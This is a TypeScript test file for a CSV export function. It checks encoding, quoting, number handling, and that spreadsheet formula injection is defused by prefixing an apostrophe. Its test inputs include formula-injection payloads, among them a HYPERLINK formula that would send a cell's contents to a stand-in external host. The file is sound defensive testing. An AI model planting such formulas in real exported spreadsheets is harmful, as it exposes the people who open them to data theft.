import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type Cell, toCsv } from '../../src/office/index.ts';

const csvOf = (...rows: Cell[][]): string => toCsv({ title: '', columns: ['单位', '人'], rows });
const firstCell = (cell: Cell): string => parse(csvOf([cell, 1]))[1]?.[0] ?? '';

/** A reader of RFC 4180, written apart from the writer. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  let [field, quoted] = ['', false];
  const text = csv.replace(/^\ufeff/, '');
  const end = (): void => {
    rows.at(-1)?.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const sign = text[i] ?? '';
    if (quoted && sign === '"' && text[i + 1] === '"') field += text[++i];
    else if (sign === '"') quoted = !quoted;
    else if (!quoted && sign === ',') end();
    else if (!quoted && sign === '\r' && text[i + 1] === '\n') {
      end();
      rows.push([]);
      i++;
    } else field += sign;
  }
  return rows.slice(0, -1);
}

/** A number as it is; a text as it is or behind an apostrophe, and no formula. */
function isKept(written: Cell, got: string): boolean {
  if (typeof written === 'number') return got === String(written);
  return (got === written || got === `'${written}`) && !/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(got);
}

describe('a table as CSV', () => {
  test('begins with the mark that tells Excel that it is UTF-8, and ends its lines with CRLF', () => {
    expect(csvOf(['城关镇', 3])).toBe('\ufeff单位,人\r\n城关镇,3\r\n');
  });
  test('quotes what would break a row', () => {
    expect(csvOf(['甲,"乙"\n丙', 1])).toContain('"甲,""乙""\n丙",1\r\n');
    expect(csvOf(['甲;乙', 1])).toContain('"甲;乙"');
  });
  test.each([
    '=1+1',
    '+86',
    '-2',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =cmd',
    '　=cmd',
    '\u200b=cmd',
    '\u0000=cmd',
    '\n=cmd',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    ' ＝1',
    '\t甲',
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
  ])('lets no cell run as a formula: %j', (cell) => {
    expect(firstCell(cell)).toBe(`'${cell}`);
  });
  test('leaves harmless texts alone', () => {
    for (const cell of ['城关镇', '3=3', "'已有撇号", '国家反诈中心APP', '①', '']) expect(firstCell(cell)).toBe(cell);
  });
  test('keeps numbers numbers, also negative ones, and shows nothing for what is none', () => {
    expect(csvOf(['甲', -3], ['乙', 1.5], ['丙', Number.NaN], ['丁', Number.POSITIVE_INFINITY])).toBe(
      '\ufeff单位,人\r\n甲,-3\r\n乙,1.5\r\n丙,\r\n丁,\r\n',
    );
  });
  test('defuses headings as well', () => {
    expect(toCsv({ title: '', columns: ['=1'], rows: [] })).toBe("\ufeff'=1\r\n");
  });
  test('gives every text back, with an apostrophe at most, however hostile it is', () => {
    const hostile = fc.string({ unit: fc.constantFrom(...'=+-@＝"\',;\r\n\t 甲a\u200b'), maxLength: 12 });
    const cell = fc.oneof(hostile, fc.string({ unit: 'binary' }), fc.integer());
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 6 }), (rows) => {
        const read = parse(toCsv({ title: '', columns: ['a', 'b'], rows }));
        const got = read.slice(1).flat();
        const wanted = rows.flat();
        return got.length === wanted.length && wanted.every((one, i) => isKept(one, got[i] ?? ''));
      }),
      { numRuns: 150 },
    );
  });
});
